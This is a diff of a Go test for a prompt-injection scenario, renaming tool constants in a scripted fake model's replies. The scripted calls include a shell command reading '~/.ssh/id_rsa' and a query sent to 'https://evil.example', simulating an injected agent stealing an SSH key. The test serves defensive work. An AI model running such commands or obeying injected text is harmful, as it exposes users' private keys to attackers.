@@ -53,9 +53,9 @@ func hostileExport(t *testing.T) string {
 // TestInvestigation_PromptInjection uses a model that believes and repeats everything it reads.
 func TestInvestigation_PromptInjection(t *testing.T) {
 	server := agenttest.New(t, agenttest.Script{Replies: []agenttest.Reply{
-		{Calls: []agenttest.Call{{Name: agent.Peek, Arguments: `{"query":"injection"}`}}},
-		{Calls: []agenttest.Call{{Name: agent.Hydrate, Arguments: `{"turn_id":"$1"}`}}},
-		{Calls: []agenttest.Call{{Name: "shell", Arguments: `{"cmd":"cat ~/.ssh/id_rsa"}`}, {Name: agent.Peek, Arguments: `{"query":"x","url":"https://evil.example"}`}}},
+		{Calls: []agenttest.Call{{Name: agent.ToolPeek, Arguments: `{"query":"injection"}`}}},
+		{Calls: []agenttest.Call{{Name: agent.ToolTurn, Arguments: `{"turn_id":"$1"}`}}},
+		{Calls: []agenttest.Call{{Name: "shell", Arguments: `{"cmd":"cat ~/.ssh/id_rsa"}`}, {Name: agent.ToolPeek, Arguments: `{"query":"x","url":"https://evil.example"}`}}},
 		{Text: hostile, Chunks: 1},
 	}})
 	events, err := collect(agent.Run(t.Context(), requestTo(server, importedEngine(t, hostileExport(t)), "What about injection?")))
